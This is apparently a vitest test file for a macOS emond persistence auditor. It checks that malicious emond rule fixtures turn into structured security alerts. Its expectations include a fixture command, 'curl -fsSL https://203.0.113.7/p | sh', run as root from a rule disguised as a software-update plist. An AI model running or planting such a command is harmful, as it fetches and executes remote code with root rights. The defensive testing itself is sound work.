import { describe, expect, it } from 'vitest';
import { auditAlerts } from '../../src/audit/audit-alerts.js';
import { emondCommandActionRule } from '../../src/audit/audit-rule.js';
import { auditEmond } from '../../src/audit/audit.js';
import { FIXTURES } from './fixture-tree.js';

describe('auditAlerts', () => {
  const root = `${FIXTURES}malicious`;
  const report = auditEmond({ root, now: new Date('2024-06-01T12:00:00Z') });
  const alerts = auditAlerts(report, { hostName: 'mac-42' });

  it('makes one alert of the built-in rule per command action, nothing for other findings', () => {
    expect(alerts).toHaveLength(3);
    for (const alert of alerts) {
      expect(alert.rule).toMatchObject({ id: emondCommandActionRule().id, name: 'Emond Rule With Command Action', version: 1, ruleset: 'builtin' });
      // The rule's severity is the finding's: a disabled emond rule is medium in every field.
      expect(alert.rule.severity).toBe(alert.event.severity === 73 ? 'high' : 'medium');
      expect(alert.rule.risk_score).toBe(alert.event.risk_score);
      expect(alert.threat[0]?.technique?.[0]?.subtechnique?.[0]?.id).toBe('T1546.014');
      expect(alert.event).toMatchObject({ kind: 'alert', category: ['process'], type: ['info'], module: 'emondguard-audit', created: '2024-06-01T12:00:00.000Z' });
      expect(alert.host).toEqual({ name: 'mac-42', os: { type: 'macos' } });
      expect(alert.process.parent).toEqual({ pid: 0, name: 'emond', executable: '/sbin/emond' });
    }
  });

  it('describes the command emond would run and where it was found', () => {
    const [shell] = alerts;
    expect(shell?.process).toMatchObject({
      name: 'sh',
      executable: '/bin/sh',
      args: ['/bin/sh', '-c', 'curl -fsSL https://203.0.113.7/p | sh'],
      args_count: 3,
      command_line: '/bin/sh -c curl -fsSL https://203.0.113.7/p | sh',
    });
    expect(shell?.user).toEqual({ id: '0', name: 'root' });
    expect(shell?.file.path).toBe('/etc/emond.d/rules/com.apple.softwareupdate.plist');
    // Found now: an old rule file must show in `alerts list --since 24h` and survive retention.
    expect(shell?.['@timestamp']).toBe('2024-06-01T12:00:00.000Z');
    expect(shell?.file.mtime).toMatch(/^\d{4}-\d\d-\d\dT/);
    expect(shell?.emond).toEqual({ rule: { index: 0, name: 'softwareupdate check', enabled: true, event_types: ['startup'] }, action: { index: 1, type: 'RunCommand', user: 'root' } });
    expect(shell?.event).toMatchObject({ severity: 73, risk_score: 73 });
  });

  it('rates the command of a disabled rule medium', () => {
    const dormant = alerts.find((a) => a.emond.rule.name === 'dormant');
    expect(dormant?.event).toMatchObject({ severity: 47, risk_score: 47 });
    expect(dormant?.rule).toMatchObject({ severity: 'medium', risk_score: 47 });
    expect(dormant?.process.args).toEqual(['/tmp/.update']);
  });

  it('gives the same finding the same entity id on every run, and different findings different ones', () => {
    const again = auditAlerts(auditEmond({ root }), { hostName: 'mac-42' });
    expect(again.map((a) => a.process.entity_id)).toEqual(alerts.map((a) => a.process.entity_id));
    expect(new Set(alerts.map((a) => a.process.entity_id)).size).toBe(3);
    expect(alerts[0]?.process.entity_id).toMatch(/^audit:[0-9a-f]{32}$/);
  });
});
